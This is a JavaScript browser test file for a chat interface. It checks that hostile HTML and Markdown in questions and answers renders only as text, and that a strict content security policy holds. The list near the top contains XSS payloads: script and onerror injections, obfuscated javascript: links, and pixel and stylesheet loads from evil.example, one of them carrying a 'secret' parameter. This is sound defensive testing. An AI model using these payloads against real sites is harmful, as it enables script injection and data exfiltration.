import assert from "node:assert/strict";
import { test } from "node:test";
import { journeys } from "../lib/journey.mjs";
import { askBriefly, openPage } from "../lib/page.mjs";
import { scene } from "../lib/scene.mjs";
import { until } from "../lib/until.mjs";

const shared = journeys();

const hostile = [
  "<script>window.__owned = 1</script>",
  '<img src=x onerror="window.__owned = 2">',
  '<img src="https://evil.example/pixel.gif">',
  '<iframe src="javascript:parent.__owned = 3"></iframe>',
  '<svg onload="window.__owned = 4"></svg>',
  "![pixel](https://evil.example/pixel.gif?secret=1)",
  "[click](javascript:window.__owned=5)",
  "[click](java&#115;cript:window.__owned=6)",
  "[click](data:text/html,<script>1</script>)",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "```html\n<script>window.__owned = 7</script>\n```",
  "[fine](https://example.org/)",
].join("\n\n");

test("a hostile answer is text", async () => {
  const page = await openPage(shared.browser, shared.goblin);
  await askBriefly(page, shared.goblin, "<img src=x onerror='window.__owned = 8'>");
  await scene.turns(page, [
    scene.turn({ content: "<script>window.__owned = 9</script>", answer: hostile }),
  ]);
  await page.reload();
  await page.getByRole("link", { name: "fine" }).waitFor();
  await page.locator(".hljs-name").first().waitFor({ state: "attached" });
  // Whatever of it tried to load something has failed by the time this picture, asked for after it, has.
  await page.evaluate(
    () =>
      new Promise((resolve) => {
        const last = new Image();
        last.onerror = resolve;
        last.src = "/no-such-picture.png";
      }),
  );
  assert.equal(await page.evaluate(() => window.__owned), undefined);
  assert.equal(await page.locator("main :is(img, script, iframe, style, link, meta)").count(), 0);
  const links = await page
    .locator(".prose a")
    .evaluateAll((all) => all.map((a) => [a.protocol, a.rel]));
  assert.equal(links.length, 2);
  for (const link of links) assert.deepEqual(link, ["https:", "noopener noreferrer nofollow"]);
  await page.leave();
});

test("the policy is strict, holds, and would notice", async () => {
  const page = await openPage(shared.browser, shared.goblin);
  const policy = (await page.reload()).headers()["content-security-policy"];
  assert.ok(policy, "the page is served with a content security policy");
  const directives = Object.fromEntries(
    policy.split(";").map((part) => {
      const [name, ...values] = part.trim().split(/\s+/);
      return [name, values.join(" ")];
    }),
  );
  assert.equal(directives["default-src"], "'none'");
  assert.equal(directives["script-src"], "'self'");
  assert.equal(directives["style-src"], "'self'");
  assert.equal(directives["require-trusted-types-for"], "'script'");
  assert.equal(directives["frame-ancestors"], "'none'");
  assert.doesNotMatch(policy, /unsafe-|\*/);

  const blocked = await page.evaluate(async () => {
    const result = {};
    try {
      document.createElement("div").innerHTML = "<b>x</b>";
      result.html = "allowed";
    } catch {
      result.html = "blocked";
    }
    try {
      new Worker("/theme.js");
      result.worker = "allowed";
    } catch {
      result.worker = "blocked";
    }
    return result;
  });
  assert.deepEqual(blocked, { html: "blocked", worker: "blocked" });
  await until("both breaches are noticed", () =>
    ["innerHTML", "Worker"].every((sink) =>
      page.faults().some((fault) => fault.startsWith("CSP: ") && fault.includes(sink)),
    ),
  );
  assert.throws(() => page.assertClean(), /CSP/, "and a journey ends with them");
});
